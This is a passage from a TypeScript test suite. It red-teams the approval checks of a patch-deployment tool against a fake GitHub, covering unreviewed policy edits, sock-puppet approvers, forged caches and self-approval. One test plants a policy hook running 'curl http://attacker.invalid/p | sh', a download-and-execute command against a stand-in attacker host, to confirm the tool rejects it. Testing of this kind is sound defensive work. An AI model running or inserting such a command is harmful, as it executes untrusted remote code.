// The red-team attacks on the trust boundary (issue 21), each built in a real git repository against the fake GitHub.
import { execFileSync, spawn } from "node:child_process";
import { mkdir, readFile, rm, writeFile } from "node:fs/promises";
import { dirname, join } from "node:path";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import type { HostResult, Job } from "../../reconciler/model/plan.js";
import { intakeDraft, updateDoc } from "../helpers/documents.js";
import { startFakeGithub, type FakeGithub, type FakePull } from "../helpers/github-server.js";
import { cli, commitAll, copyRepo, restoreEnv, ROOT, tempDir, tempRepo } from "../helpers/repo.js";
import { CLI_COMMAND } from "../helpers/child.js";

const NOW = "2026-12-10T09:00:00Z";
const CAB = `apiVersion: patchops/v1
kind: ChangeAdvisoryBoard
metadata:
  name: cab
spec:
  members: [alice, bob, carol]
  requiredApprovals: 2
  teams: { team-a: [tina], team-b: [tom] }
  intakeIdentity: patchops-intake[bot]
`;
const INVENTORY =
  ["host-01", "host-02"]
    .map((h) =>
      JSON.stringify({
        host: h,
        scannedAt: "2026-12-10T04:00:00Z",
        os: { family: "windows", version: "10.0.20348.2113" },
        installed: [],
      }),
    )
    .join("\n") + "\n";
const MERGED = "2026-11-23T18:00:00Z";
const ok = (login: string, commit?: string) => ({
  login,
  state: "APPROVED" as const,
  at: "2026-11-23T17:00:00Z",
  ...(commit ? { commit } : {}),
});

let gh: FakeGithub;
const saved = { ...process.env };

beforeAll(async () => {
  gh = await startFakeGithub();
  Object.assign(process.env, {
    GITHUB_TOKEN: "ghs_attacktoken",
    GITHUB_REPOSITORY: "acme/patch-policy",
    GITHUB_API_URL: gh.url,
    PATCHOPS_RETRY_SCALE: "0.01",
  });
});
afterAll(async () => {
  restoreEnv(saved);
  await gh.close();
});
beforeEach(() => {
  gh.pulls.length = 0;
  gh.requests.length = 0;
  gh.failWith = null;
  gh.hang = false;
  gh.tooManyNext = { count: 0, retryAfter: 0 };
  gh.protection.clear();
});

let clock = Date.parse("2026-11-02T00:00:00Z");
/** Writes files (null deletes) and commits them; returns the commit. */
async function change(repo: string, files: Record<string, string | null>, author = "Dave <dave@example.com>") {
  for (const [p, t] of Object.entries(files)) {
    if (t === null) await rm(join(repo, p), { force: true });
    else {
      await mkdir(dirname(join(repo, p)), { recursive: true });
      await writeFile(join(repo, p), t);
    }
  }
  clock += 3_600_000;
  return commitAll(repo, `change ${Object.keys(files).join(", ")}`, new Date(clock).toISOString(), author);
}

const pr = (number: number, commits: string[], reviews: FakePull["reviews"], author = "dave"): FakePull => ({
  number,
  author,
  mergedAt: MERGED,
  commits,
  reviews,
});

/** The bootstrap (the CAB trust root) and KB100, committed once for the file; each test works on its own copy. */
let template: { dir: string; root: string; kb100: string };
/** Review caches and homes outside every checkout, removed with the file's temp folders. */
let scratch = "";
const outside = (prefix: string) => join(scratch, `${prefix}-${Math.random().toString(36).slice(2)}`);
beforeAll(async () => {
  scratch = await tempDir();
  const dir = await tempRepo("minimal", { "policies/cab.yaml": CAB, "inv.jsonl": INVENTORY });
  await rm(join(dir, "policies/updates/kb5035857.yaml"));
  const root = commitAll(dir, "Bootstrap", "2026-11-01T10:00:00Z");
  const kb100 = await change(dir, { "policies/updates/kb100.yaml": updateDoc("KB100") });
  template = { dir, root, kb100 };
});

/** A copy of the template, with KB100 approved in PR #1 by alice and bob (and the bootstrap reviewed in PR #100). */
async function base(): Promise<{ repo: string; root: string; kb100: string }> {
  const { root, kb100 } = template;
  const repo = await copyRepo(template.dir);
  gh.pulls.push(pr(100, [root], [ok("alice"), ok("bob"), ok("tina")]));
  gh.pulls.push(pr(1, [kb100], [ok("alice"), ok("bob")]));
  return { repo, root, kb100 };
}

async function plan(repo: string, ...extra: string[]) {
  const out = join(repo, `out-${Math.random().toString(36).slice(2)}`);
  const r = await cli(
    "plan",
    "--repo",
    repo,
    "--inventory",
    join(repo, "inv.jsonl"),
    "--out",
    out,
    "--now",
    NOW,
    "--cache-dir",
    join(out, "..", ".cache-" + Math.random().toString(36).slice(2)),
    ...extra,
  );
  const lines = async (f: string) =>
    (await readFile(join(out, f), "utf8").catch(() => ""))
      .split("\n")
      .filter(Boolean)
      .map((l) => JSON.parse(l));
  const jobs = (await lines("jobs.ndjson")) as Job[];
  const hosts = (await lines("hosts.ndjson")) as HostResult[];
  const planJson = JSON.parse(await readFile(join(out, "plan.json"), "utf8").catch(() => "null"));
  return { ...r, jobs, hosts, plan: planJson, out };
}

const updatesIn = (jobs: Job[]) =>
  [...new Set(jobs.filter((j) => j.type === "install").flatMap((j) => j.updates))].sort();
const approvals = (repo: string, ...extra: string[]) =>
  cli("approvals", "--repo", repo, "--now", NOW, "--cache-dir", outside("c"), ...extra);

describe("1. baselines", () => {
  it("an unreviewed baseline requiring a pending and a file-less update deploys nothing and is reported", async () => {
    const { repo } = await base();
    await change(
      repo,
      {
        "policies/updates/kb105.yaml": updateDoc("KB105", { decision: null }),
        "baselines/evil.yaml": `apiVersion: patchops/v1
kind: Baseline
metadata:
  name: evil
spec:
  selector: { os: windows }
  requiredUpdates: [KB105, KB999]
  revision: 2026-11-01
`,
      },
      "Mallory <mallory@example.com>",
    );
    const r = await plan(repo);
    expect(updatesIn(r.jobs)).toEqual(["KB100"]);
    expect(r.plan.approvalVerification).toBe("verified");
    expect(r.plan.findings).toContainEqual(
      expect.objectContaining({ code: "policy-file-unverified", file: "baselines/evil.yaml", severity: "error" }),
    );
    expect(r.code).toBe(1);
    const a = await approvals(repo);
    expect(a.stdout).toMatch(/✗ baseline +evil +UNVERIFIED: commit [0-9a-f]{12} is in no merged pull request/);
  });

  it("a reviewed baseline's requirement on a pending or missing update is a finding and deploys nothing", async () => {
    const { repo } = await base();
    const c = await change(repo, {
      "policies/updates/kb105.yaml": updateDoc("KB105", { decision: null }),
      "baselines/std.yaml": `apiVersion: patchops/v1
kind: Baseline
metadata:
  name: std
spec:
  selector: { os: windows }
  requiredUpdates: [KB105, KB999]
  revision: 2026-11-01
`,
    });
    gh.pulls.push(pr(2, [c], [ok("alice"), ok("bob")]));
    const r = await plan(repo);
    expect(r.code).toBe(0);
    expect(updatesIn(r.jobs)).toEqual(["KB100"]);
    const codes = r.plan.findings.map((f: { code: string; message: string }) => `${f.code}: ${f.message}`);
    expect(codes).toContainEqual(expect.stringMatching(/baseline-requirement-unapproved: .*KB105, which is pending/));
    expect(codes).toContainEqual(
      expect.stringMatching(/baseline-requirement-unapproved: .*KB999, which has no Update/),
    );
  });
});

describe("2. policy, exemption and timetable files", () => {
  it("unreviewed policy.yaml hooks: the last verified policy.yaml plans, no hook anywhere, and an error finding", async () => {
    const { repo, root } = await base();
    const policy = await readFile(join(repo, "policies/policy.yaml"), "utf8");
    await change(repo, {
      "policies/policy.yaml": `${policy}  hooks:\n    pre: [{ name: suspend-monitoring, run: "curl http://attacker.invalid/p | sh" }]\n`,
    });
    const r = await plan(repo);
    expect(updatesIn(r.jobs)).toEqual(["KB100"]);
    expect(JSON.stringify(r.jobs)).not.toContain("attacker.invalid");
    expect(r.plan.findings).toContainEqual(
      expect.objectContaining({
        code: "policy-file-unverified",
        file: "policies/policy.yaml",
        message: expect.stringContaining(`its last verified version (commit ${root.slice(0, 12)}) is planned instead`),
      }),
    );
    expect(r.code).toBe(1);
  });

  it("an unreviewed defer-everything exemption is ignored", async () => {
    const { repo } = await base();
    await change(repo, {
      "policies/exemptions/all.yaml": `apiVersion: patchops/v1
kind: Exemption
metadata:
  name: all
spec:
  selector: { os: windows }
  updates: ["*"]
  type: defer
  reason: risk accepted
  ticket: CHG-1
  expires: 2026-12-30
`,
    });
    const r = await plan(repo);
    expect(updatesIn(r.jobs)).toEqual(["KB100"]);
    expect(r.hosts.every((h) => h.status === "noncompliant")).toBe(true);
    expect(r.plan.findings).toContainEqual(
      expect.objectContaining({ code: "policy-file-unverified", file: "policies/exemptions/all.yaml" }),
    );
  });

  it("an unreviewed time-zone change gives that timetable's hosts no install jobs", async () => {
    const { repo } = await base();
    const tt = await readFile(join(repo, "windows/timetables/dc.yaml"), "utf8");
    await change(repo, { "windows/timetables/dc.yaml": tt.replace("America/Los_Angeles", "Asia/Tokyo") });
    const r = await plan(repo);
    expect(r.jobs.filter((j) => j.type === "install")).toEqual([]);
    expect(r.hosts.map((h) => h.updates.KB100)).toEqual(["missing", "missing"]);
    expect(r.plan.findings).toContainEqual(
      expect.objectContaining({ code: "policy-file-unverified", file: "windows/timetables/dc.yaml" }),
    );
  });
});

describe("3. the CAB is the trust root", () => {
  it("a direct push adding a sock puppet and lowering the quorum changes nothing", async () => {
    const { repo } = await base();
    await change(repo, {
      "policies/cab.yaml": CAB.replace("[alice, bob, carol]", "[alice, bob, carol, mallory-sock]").replace(
        "requiredApprovals: 2",
        "requiredApprovals: 1",
      ),
    });
    const kb106 = await change(repo, { "policies/updates/kb106.yaml": updateDoc("KB106") });
    gh.pulls.push(pr(6, [kb106], [ok("mallory-sock")], "mallory"));
    const a = await approvals(repo);
    expect(a.stdout).toMatch(/✗ cab +cab +UNVERIFIED: a change to the CAB needs the CAB as it stood before/);
    expect(a.stdout).toMatch(/✗ update +KB106 +UNVERIFIED: PR #6 by mallory: 0 of 2 needed from the CAB/);
    expect(a.stdout).toMatch(/✓ update +KB100 +verified/);
  });

  it("a CAB change approved by the CAB before it applies from then on, never retroactively", async () => {
    const { repo } = await base();
    const drop = await change(repo, { "policies/cab.yaml": CAB.replace("[alice, bob, carol]", "[alice, carol]") });
    gh.pulls.push(pr(2, [drop], [ok("alice"), ok("carol")]));
    const kb101 = await change(repo, { "policies/updates/kb101.yaml": updateDoc("KB101") });
    gh.pulls.push(pr(3, [kb101], [ok("alice"), ok("bob")]));
    const a = await approvals(repo);
    expect(a.stdout).toMatch(/✓ cab +cab +verified: PR #2/);
    // bob approved KB100 while a member: it stays approved; after his removal his approval no longer counts.
    expect(a.stdout).toMatch(/✓ update +KB100 +verified: PR #1 by dave: approved by alice, bob/);
    expect(a.stdout).toMatch(
      /✗ update +KB101 +UNVERIFIED: PR #3 by dave: 1 of 2 needed .*non-members do not count \(bob\)/,
    );
  });

  it("--cab-root pins the trust root: history before it needs no review, after it does", async () => {
    const { repo, kb100 } = await base();
    gh.pulls.length = 0;
    const a = await approvals(repo, "--cab-root", kb100);
    expect(a.stdout).toContain(`CAB trust root ${kb100.slice(0, 12)}`);
    expect(a.stdout).toMatch(/✓ update +KB100 +verified: part of the trusted root/);
    // Unpinned, the first cab.yaml only bootstraps the CAB: the files of that commit still need their pull request.
    const tofu = await approvals(repo);
    expect(tofu.stdout).toMatch(/✓ cab +cab +verified: the trusted root/);
    expect(tofu.stdout).toMatch(/✗ policy +minimal +UNVERIFIED: commit [0-9a-f]{12} is in no merged pull request/);
    // Trust on first use is said every time, and pinning through the environment (as the workflows do) silences it.
    expect(tofu.stdout).toContain("! no CAB trust root is pinned");
    expect(a.stdout).not.toContain("no CAB trust root is pinned");
    const unpinned = await plan(repo);
    expect(unpinned.plan.findings).toContainEqual(expect.objectContaining({ code: "cab-root-unpinned" }));
    process.env.PATCHOPS_CAB_ROOT = kb100;
    try {
      const pinned = await plan(repo);
      expect(pinned.plan.findings.map((f: { code: string }) => f.code)).not.toContain("cab-root-unpinned");
      expect(updatesIn(pinned.jobs)).toEqual(["KB100"]);
    } finally {
      delete process.env.PATCHOPS_CAB_ROOT;
    }
  });
});

describe("2. assignments", () => {
  it("moving an assignment to another owner team needs the previous owner team too", async () => {
    const { repo, kb100 } = await base();
    const file = "windows/assignments/team-a.yaml";
    const moved = await change(repo, {
      [file]: (await readFile(join(repo, file), "utf8")).replace("owner: team-a", "owner: team-b"),
    });
    gh.pulls.push({ ...pr(9, [moved], [ok("tom")]), baseSha: kb100 });
    const check = await cli("approvals", "--repo", repo, "--pr", "9", "--now", NOW);
    expect(check.code).toBe(1);
    expect(check.stdout).toContain(`✓ ${file}: approved by tom (owner team team-b)`);
    expect(check.stdout).toContain(`✗ ${file} (previous owner team-a): 0 of 1 needed from owner team team-a`);
    const a = await approvals(repo);
    expect(a.stdout).toMatch(/✗ assignment +team-a +UNVERIFIED: PR #9 by dave: 0 of 1 needed from owner team team-a/);
  });
});

describe("4–5. every first-parent commit that changed a file is a reviewed pull request", () => {
  it("an edit inside a merge commit is seen", async () => {
    const { repo } = await base();
    const git = (...args: string[]) =>
      execFileSync("git", args, { cwd: repo, stdio: ["ignore", "pipe", "ignore"], encoding: "utf8" });
    git("checkout", "-q", "-b", "side");
    await change(repo, { "NOTES.md": "notes\n" });
    git("checkout", "-q", "main");
    git("-c", "user.name=m", "-c", "user.email=m@x", "merge", "-q", "--no-ff", "--no-commit", "side");
    await writeFile(
      join(repo, "policies/updates/kb100.yaml"),
      updateDoc("KB100").replace(/KB100/g, "KB666").replace("kb666", "kb100"),
    );
    commitAll(repo, "Merge side", "2026-11-25T10:00:00Z");
    const a = await approvals(repo);
    expect(a.stdout).toMatch(/✗ update +KB666 +UNVERIFIED: commit [0-9a-f]{12} is in no merged pull request/);
    const r = await plan(repo);
    expect(updatesIn(r.jobs)).toEqual([]);
  });

  it("an unreviewed direct push between two reviewed pull requests is caught", async () => {
    const { repo } = await base();
    await change(repo, { "policies/updates/kb100.yaml": updateDoc("KB100").replace("id: KB100", "id: KB777") });
    const title = await change(repo, {
      "policies/updates/kb100.yaml": updateDoc("KB100")
        .replace("id: KB100", "id: KB777")
        .replace("title: Update KB100", "title: Renamed"),
    });
    gh.pulls.push(pr(7, [title], [ok("alice"), ok("bob")]));
    const a = await approvals(repo);
    expect(a.stdout).toMatch(/✗ update +KB777 +UNVERIFIED: commit [0-9a-f]{12} is in no merged pull request/);
  });
});

describe("6. stale reviews", () => {
  it("approvals of an older commit whose policy files differ do not count, in plan, approvals and approvals --pr", async () => {
    const { repo } = await base();
    const rejected = await change(repo, {
      "policies/updates/kb102.yaml": updateDoc("KB102", { decision: "rejected" }),
    });
    const approved = await change(repo, { "policies/updates/kb102.yaml": updateDoc("KB102") });
    gh.pulls.push({ ...pr(3, [rejected, approved], [ok("alice", rejected), ok("bob", rejected)]), baseSha: rejected });
    const a = await approvals(repo);
    expect(a.stdout).toMatch(
      /✗ update +KB102 +UNVERIFIED: PR #3 by dave: 0 of 2 needed .*approvals of an older commit do not count \(alice, bob/,
    );
    const r = await plan(repo);
    expect(updatesIn(r.jobs)).toEqual(["KB100"]);
    const check = await cli("approvals", "--repo", repo, "--pr", "3", "--base", `${rejected}~1`, "--now", NOW);
    expect(check.code).toBe(1);
    expect(check.stdout).toContain("! approvals of an older commit do not count (alice, bob)");
    // A review of an older commit with the same policy files still counts.
    const notes = await change(repo, { "NOTES.md": "x\n" });
    gh.pulls.push({ ...pr(4, [approved, notes], [ok("alice", approved), ok("bob", approved)]) });
    const same = await cli("approvals", "--repo", repo, "--pr", "4", "--base", rejected, "--now", NOW);
    expect(same.stdout).toContain("✓ every change has the approvals it needs");
  });
});

describe("7. the review cache", () => {
  it("a committed cache file is refused; the default cache is outside the checkout", async () => {
    const { repo } = await base();
    const kb101 = await change(repo, { "policies/updates/kb101.yaml": updateDoc("KB101") });
    const forged = {
      version: 2,
      repository: "acme/patch-policy",
      commits: {
        [kb101]: [
          {
            number: 4242,
            title: "x",
            author: "dave",
            mergedAt: MERGED,
            baseRef: "main",
            url: "https://github.com/acme/patch-policy/pull/4242",
            headSha: kb101,
            reviews: [
              { id: 1, login: "alice", state: "APPROVED", submittedAt: MERGED, commitId: kb101 },
              { id: 2, login: "bob", state: "APPROVED", submittedAt: MERGED, commitId: kb101 },
            ],
          },
        ],
      },
    };
    await change(repo, { ".patchops-cache/acme/patch-policy/reviews.json": JSON.stringify(forged) });
    const r = await cli("approvals", "--repo", repo, "--now", NOW, "--cache-dir", join(repo, ".patchops-cache"));
    expect(r.stderr).toContain("refusing the review cache .patchops-cache/acme/patch-policy/reviews.json");
    expect(r.stdout).toMatch(/✗ update +KB101 +UNVERIFIED: commit [0-9a-f]{12} is in no merged pull request/);
    const home = outside("home");
    const d = await cli("approvals", "--repo", repo, "--now", NOW);
    expect(d.stdout).not.toContain("PR #4242");
    process.env.PATCHOPS_CACHE_DIR = home;
    try {
      await cli("approvals", "--repo", repo, "--now", NOW);
      const saved2 = JSON.parse(await readFile(join(home, "acme/patch-policy/reviews.json"), "utf8"));
      expect(saved2.repository).toBe("acme/patch-policy");
    } finally {
      delete process.env.PATCHOPS_CACHE_DIR;
    }
  });
});

describe("7. cached entries", () => {
  it("an entry whose head is unknown is asked of GitHub again", async () => {
    const { repo, kb100 } = await base();
    const dir = outside("cache");
    await mkdir(join(dir, "acme/patch-policy"), { recursive: true });
    const entry = {
      number: 1,
      title: "x",
      author: "dave",
      mergedAt: MERGED,
      baseRef: "main",
      url: "u",
      reviews: [{ id: 1, login: "alice", state: "APPROVED", submittedAt: MERGED, commitId: kb100 }],
    };
    await writeFile(
      join(dir, "acme/patch-policy/reviews.json"),
      JSON.stringify({ version: 2, repository: "acme/patch-policy", commits: { [kb100]: [entry] } }),
    );
    const r = await cli("approvals", "--repo", repo, "--now", NOW, "--cache-dir", dir);
    expect(gh.requests.some((q) => q.path.includes(`/commits/${kb100}/pulls`))).toBe(true);
    expect(r.stdout).toMatch(/✓ update +KB100 +verified: PR #1 by dave: approved by alice, bob/);
  });
});

describe("8. trailers", () => {
  it("never override GitHub, and self-approval never counts", async () => {
    const { repo } = await base();
    await writeFile(join(repo, "policies/updates/kb108.yaml"), updateDoc("KB108"));
    commitAll(repo, "KB108\n\nApproved-by: alice\nApproved-by: bob", "2026-11-26T10:00:00Z", "Dave <dave@example.com>");
    const withGithub = await approvals(repo, "--trust-local-approvals");
    expect(withGithub.stdout).toMatch(/✗ update +KB108 +UNVERIFIED: commit [0-9a-f]{12} is in no merged pull request/);
    expect(withGithub.stdout).toContain("for air-gapped demos only");
    expect(withGithub.stderr).toContain("for air-gapped demos only");
    await writeFile(join(repo, "policies/updates/kb109.yaml"), updateDoc("KB109"));
    commitAll(
      repo,
      "KB109\n\nApproved-by: alice\nApproved-by: bob",
      "2026-11-27T10:00:00Z",
      "Alice Smith <alice.smith@corp.example>",
    );
    const token = process.env.GITHUB_TOKEN;
    delete process.env.GITHUB_TOKEN;
    try {
      const local = await approvals(repo, "--trust-local-approvals");
      expect(local.stdout).toMatch(
        /✗ update +KB109 +UNVERIFIED: Approved-by trailers on [0-9a-f]{12}: 1 of 2 needed .*\(bob\)/,
      );
      const r = await plan(repo, "--trust-local-approvals");
      expect(r.plan.approvalVerification).toBe("trusted-local");
      expect(r.plan.findings).toContainEqual(expect.objectContaining({ code: "trust-local-approvals" }));
    } finally {
      process.env.GITHUB_TOKEN = token;
    }
  });
});

describe("8. self-approval on GitHub", () => {
  it("an approver who wrote or pushed a commit of the pull request does not count", async () => {
    const { repo } = await base();
    const c = await change(repo, { "policies/updates/kb110.yaml": updateDoc("KB110") });
    gh.pulls.push({
      ...pr(5, [c], [ok("alice"), ok("bob")]),
      commitLogins: { [c]: { author: "alice", committer: "alice" } },
    });
    const a = await approvals(repo);
    expect(a.stdout).toMatch(
      /✗ update +KB110 +UNVERIFIED: PR #5 by dave: 1 of 2 needed .*approvals by authors of its commits do not count \(alice\)/,
    );
  });
});

describe("9. the intake identity", () => {
  it("passes only an intake-only pull request under an approved rule", async () => {
    const { repo } = await base();
    const rule = await change(repo, {
      "policies/rules/all.yaml": `apiVersion: patchops/v1
kind: ApprovalRule
metadata:
  name: all
spec:
  classifications: [security]
  approveAfterDays: 0
`,
    });
    gh.pulls.push(pr(2, [rule], [ok("alice"), ok("bob")]));
    const drafted = (id: string) => intakeDraft(id, { rule: "all" });
    const good = await change(repo, { "policies/updates/kb300.yaml": drafted("KB300") });
    const handmade = await change(repo, { "policies/updates/kb301.yaml": updateDoc("KB301", { decision: null }) });
    gh.pulls.push(pr(6, [handmade], [], "patchops-intake[bot]"));
    const plain = await change(repo, {
      "policies/updates/kb303.yaml": updateDoc("KB303", { decision: null }).replace("  pilot: false\n", ""),
    });
    gh.pulls.push(pr(7, [plain], [], "patchops-intake[bot]"));
    gh.pulls.push(pr(3, [good], [], "patchops-intake[bot]"));
    const bad = await change(repo, { "policies/updates/kb666.yaml": drafted("KB666") });
    gh.pulls.push({
      ...pr(4, [bad], [], "patchops-intake[bot]"),
      commitLogins: { [bad]: { author: "mallory", committer: "mallory" } },
    });
    const a = await approvals(repo);
    expect(a.stdout).toMatch(/✓ update +KB300 +verified: PR #3 opened and written only by patchops-intake\[bot\]/);
    expect(a.stdout).toMatch(
      /✗ update +KB301 +UNVERIFIED: PR #6 by patchops-intake\[bot\]: 0 of 2 needed from the CAB \(2 needed, as the entry goes beyond its rule: pilot: false/,
    );
    expect(a.stdout).toMatch(
      /✗ update +KB303 +UNVERIFIED: PR #7 by patchops-intake\[bot\]: 0 of 1 needed from one CAB member.*; the intake shortcut does not apply \(it carries no intake record\)/,
    );
    expect(a.stdout).toMatch(
      /✗ update +KB666 +UNVERIFIED: PR #4 by patchops-intake\[bot\]: not an intake-only change \(commit [0-9a-f]{12} was written or pushed by mallory/,
    );
    // Pushed by the intake identity itself, but not what intake would write: the record renders a different file.
    const edited = await change(repo, {
      "policies/updates/kb302.yaml": drafted("KB302").replace(
        "restart: required",
        "restart: required\n  supersedes: [KB100]",
      ),
    });
    gh.pulls.push(pr(5, [edited], [], "patchops-intake[bot]"));
    const b = await approvals(repo);
    expect(b.stdout).toMatch(
      /✗ update +KB302 +UNVERIFIED: PR #5 by patchops-intake\[bot\]: 0 of 2 needed from the CAB \(2 needed, as the entry goes beyond its rule: supersedes the approved KB100/,
    );
    // An unverified superseder covers nothing: KB100 is still deployed.
    const r = await plan(repo);
    expect(r.hosts.map((h) => h.updates.KB100)).toEqual(["missing", "missing"]);
    expect(updatesIn(r.jobs)).toEqual(["KB100"]);
  });
});

describe("10–12. outages", () => {
  it("GitHub down: approved updates stay missing with no jobs and an error finding; the circuit stops asking", async () => {
    const { repo } = await base();
    gh.failWith = 500;
    const started = Date.now();
    const r = await plan(repo);
    expect(Date.now() - started).toBeLessThan(20_000);
    expect(r.jobs.filter((j) => j.type === "install")).toEqual([]);
    expect(r.hosts.every((h) => h.status === "noncompliant" && h.updates.KB100 === "missing")).toBe(true);
    expect(r.plan.findings).toContainEqual(expect.objectContaining({ code: "approval-unverified", severity: "error" }));
    expect(r.stdout).toContain("Approved but unverified (no jobs)");
    // One failing request (with its retries) opens the circuit: GitHub is not asked about every commit.
    expect(gh.requests.length).toBeLessThanOrEqual(3);
  });

  it("without a token plan says in one line how to verify", async () => {
    const { repo } = await base();
    const token = process.env.GITHUB_TOKEN;
    delete process.env.GITHUB_TOKEN;
    try {
      const r = await plan(repo);
      expect(r.stderr).toMatch(
        /GitHub is not configured.*set GITHUB_TOKEN and GITHUB_REPOSITORY.*--no-verify-approvals/,
      );
      expect(r.hosts.every((h) => h.updates.KB100 === "missing")).toBe(true);
    } finally {
      process.env.GITHUB_TOKEN = token;
    }
  });

  it("on the example fleet, unverified is never more compliant than verification off", async () => {
    const repo = await tempRepo("example");
    commitAll(repo, "example policy");
    const run = async (...extra: string[]) => {
      const out = join(repo, `o-${extra.length}`);
      const r = await cli(
        "plan",
        "--repo",
        repo,
        "--inventory",
        join(repo, "examples/inventory.jsonl"),
        "--out",
        out,
        "--now",
        NOW,
        ...extra,
      );
      return { r, plan: JSON.parse(await readFile(join(out, "plan.json"), "utf8")) };
    };
    const token = process.env.GITHUB_TOKEN;
    delete process.env.GITHUB_TOKEN;
    try {
      const off = await run("--no-verify-approvals");
      const unverified = await run();
      expect(unverified.r.code).toBe(1);
      // Unverified files count for nothing: not their approvals, and not their supersedence either (fewer hosts
      // look compliant, never more; the review cache keeps outages to what changed since the last verified run).
      expect(unverified.plan.summary.byStatus.compliant).toBeLessThanOrEqual(off.plan.summary.byStatus.compliant);
      expect(unverified.plan.summary.jobs.install).toBe(0);
    } finally {
      process.env.GITHUB_TOKEN = token;
    }
  }, 60_000);

  it("a server that never answers times out instead of hanging", async () => {
    const { repo } = await base();
    gh.hang = true;
    process.env.PATCHOPS_GITHUB_TIMEOUT = "0.5";
    try {
      const started = Date.now();
      const a = await approvals(repo);
      expect(Date.now() - started).toBeLessThan(15_000);
      expect(a.code).toBe(1);
      expect(a.stdout).toContain("GitHub did not answer in time");
    } finally {
      delete process.env.PATCHOPS_GITHUB_TIMEOUT;
    }
  }, 30_000);

  it("a 429 is waited out; a retry-after past the budget fails with a clear reason", async () => {
    const { repo } = await base();
    gh.tooManyNext = { count: 1, retryAfter: 1 };
    const a = await approvals(repo);
    expect(a.stdout).toMatch(/✓ update +KB100 +verified/);
    gh.tooManyNext = { count: 1, retryAfter: 86_400 };
    const b = await approvals(repo);
    expect(b.stdout).toMatch(/GitHub rate limit \(429\).*rate-limit budget/);
  });
});

describe("11. one unverified file does not stop the fleet", () => {
  it("reconcile.sh exports, records and publishes everything verified, then fails with the findings", async () => {
    const { repo } = await base();
    await writeFile(join(repo, "scripts-reconcile.sh"), await readFile(join(ROOT, "scripts/reconcile.sh"), "utf8"));
    // A second owner's assignment, pushed without review: only its host loses its jobs.
    const tt = "windows/assignments/team-b.yaml";
    await change(repo, {
      [tt]: `apiVersion: patchops/v1
kind: Assignment
metadata:
  name: team-b
spec:
  owner: team-a
  timetable: dc
  hosts:
    - { name: host-03, period: D2-04, role: app }
`,
      "inv.jsonl": INVENTORY + INVENTORY.split("\n")[0]!.replace("host-01", "host-03") + "\n",
    });
    const out = join(repo, "run-out");
    const code = await new Promise<number | null>((resolve) => {
      const child = spawn("bash", [join(repo, "scripts-reconcile.sh")], {
        cwd: repo,
        env: {
          ...process.env,
          PATCHOPS_CMD: CLI_COMMAND,
          PATCHOPS_INVENTORY_PATH: join(repo, "inv.jsonl"),
          PATCHOPS_NOW: NOW,
          PATCHOPS_OUT: out,
          PATCHOPS_CACHE_DIR: outside("rc"),
        },
        stdio: "ignore",
      });
      child.on("exit", (c) => resolve(c));
    });
    expect(code).toBe(1);
    const ansible = await readFile(join(out, "ansible-inventory.yml"), "utf8");
    expect(ansible).toContain("host-01");
    expect(ansible).not.toContain("host-03");
    expect(await readFile(join(out, "summary.md"), "utf8")).toContain("approval-unverified");
    expect(await readFile(join(out, "site/index.html"), "utf8")).toContain("<!doctype html>");
    expect(execFileSync("grep", ["-rl", "host-03", join(out, "site")], { encoding: "utf8" })).not.toBe("");
    expect(execFileSync("git", ["log", "--format=%s", "patchops-status"], { cwd: repo, encoding: "utf8" })).toMatch(
      /^status 2026-12-10T09:00:00Z/,
    );
  }, 120_000);
});

describe("branch protection", () => {
  it("approvals reads the protection through the API and warns about each missing setting", async () => {
    const { repo } = await base();
    const none = await approvals(repo);
    expect(none.stdout).toContain("! branch main is not protected");
    const p = await plan(repo);
    expect(p.plan.findings).toContainEqual(
      expect.objectContaining({
        code: "branch-protection",
        severity: "warning",
        message: expect.stringMatching(/not protected/),
      }),
    );
    expect(p.code).toBe(0);
    gh.protection.set("main", { reviews: 1, dismissStale: false, codeOwners: true, forcePushes: false, admins: true });
    const weak = await approvals(repo);
    expect(weak.stdout).toContain(
      "! branch main requires 1 approving review(s), fewer than the CAB's requiredApprovals (2)",
    );
    expect(weak.stdout).toContain("! branch main does not dismiss stale approvals");
    expect(weak.stdout).toContain(
      "! branch main does not require approval of the most recent reviewable push, so a CAB member could push commits under a colleague's e-mail and approve them",
    );
    gh.protection.set("main", {
      reviews: 2,
      dismissStale: true,
      codeOwners: true,
      forcePushes: false,
      admins: true,
      lastPush: true,
    });
    const good = await approvals(repo);
    expect(good.stdout).not.toContain("! branch");
  });
});

describe("deleted, pending and rejected files are verified too", () => {
  const DEFER = `apiVersion: patchops/v1
kind: Exemption
metadata:
  name: freeze
spec:
  selector: { hosts: [host-01] }
  updates: [KB100]
  type: defer
  reason: quarter-end freeze
  ticket: CHG-7
  expires: 2026-12-30
`;

  it("an unreviewed deletion of an exemption is not applied; a reviewed one is", async () => {
    const { repo } = await base();
    const add = await change(repo, { "policies/exemptions/freeze.yaml": DEFER });
    gh.pulls.push(pr(2, [add], [ok("alice"), ok("bob")]));
    expect(updatesIn((await plan(repo)).jobs.filter((j) => j.host === "host-01"))).toEqual([]);
    const del = await change(repo, { "policies/exemptions/freeze.yaml": null }, "Mallory <mallory@example.com>");
    const r = await plan(repo);
    // The frozen host stays frozen: the deletion was pushed without review.
    expect(updatesIn(r.jobs.filter((j) => j.host === "host-01"))).toEqual([]);
    expect(updatesIn(r.jobs.filter((j) => j.host === "host-02"))).toEqual(["KB100"]);
    expect(r.plan.findings).toContainEqual(
      expect.objectContaining({ code: "deletion-unverified", file: "policies/exemptions/freeze.yaml" }),
    );
    const a = await approvals(repo);
    expect(a.code).toBe(1);
    expect(a.stdout).toMatch(
      new RegExp(
        `✗ deletion +policies/exemptions/freeze.yaml +UNVERIFIED \\(not applied: the file's last version is planned\\): deleted in ${del.slice(0, 12)} without approval: commit ${del.slice(0, 12)} is in no merged pull request`,
      ),
    );
    // Once the CAB approves the deletion, it takes effect.
    gh.pulls.push(pr(3, [del], [ok("alice"), ok("carol")]));
    const after = await plan(repo);
    expect(updatesIn(after.jobs.filter((j) => j.host === "host-01"))).toEqual(["KB100"]);
    expect(after.plan.findings.filter((f: { code: string }) => f.code === "deletion-unverified")).toEqual([]);
  });

  it("an unreviewed rename loses to the restored original: the unverified copy is dropped (M1)", async () => {
    const { repo } = await base();
    const kb101 = await change(repo, { "policies/updates/kb101.yaml": updateDoc("KB101") });
    gh.pulls.push(pr(2, [kb101], [ok("alice"), ok("bob")]));
    expect(updatesIn((await plan(repo)).jobs)).toEqual(["KB100", "KB101"]);
    // One direct push: KB100's reviewed file goes, and a new file claims its id.
    await change(
      repo,
      {
        "policies/updates/kb100.yaml": null,
